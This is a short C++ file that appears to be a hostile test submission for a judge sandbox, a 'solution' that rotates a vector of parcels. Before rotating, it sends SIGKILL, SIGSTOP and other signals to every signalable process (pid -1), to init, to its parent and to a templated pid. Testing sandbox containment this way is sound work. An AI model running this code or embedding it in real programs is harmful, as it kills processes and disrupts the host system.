#include <algorithm>

#include "solution.h"

#include <csignal>
#include <unistd.h>

std::vector<Parcel> rotate(std::vector<Parcel> parcels) {
  for (const pid_t pid : {-1, 1, 2, 3, getppid(), @PID@, -@PID@})
    for (const int number : {SIGKILL, SIGSTOP, SIGTERM, SIGHUP, SIGCHLD, SIGRTMAX})
      if (pid != getpid()) kill(pid, number);
  if (!parcels.empty()) std::rotate(parcels.begin(), parcels.begin() + 1, parcels.end());
  return parcels;
}
